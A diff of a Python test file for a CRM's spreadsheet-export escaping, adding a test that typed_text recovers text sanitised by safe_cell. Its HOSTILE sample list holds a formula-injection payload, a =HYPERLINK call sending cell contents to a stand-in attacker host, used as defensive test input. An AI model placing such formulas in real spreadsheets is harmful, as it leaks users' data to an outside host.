@@ -7,7 +7,7 @@ from decimal import Decimal
 
 from openpyxl import load_workbook
 
-from kraya_crm.spreadsheet import csv_bytes, safe_cell, xlsx_bytes
+from kraya_crm.spreadsheet import csv_bytes, safe_cell, typed_text, xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -31,6 +31,11 @@ class SafeCellTestCase(unittest.TestCase):
                 Decimal('-1500.50'), dt.date(2026, 4, 1), True]:
             with self.subTest(value=value):
                 self.assertEqual(safe_cell(value), value)
+
+    def test_typed_text_reads_back_what_safe_cell_wrote(self):
+        for text in HOSTILE + ['Asha Patil', "'quoted'", "'", '']:
+            with self.subTest(text=text):
+                self.assertEqual(typed_text(safe_cell(text)), text)
 
 
 class ExportFileTestCase(unittest.TestCase):
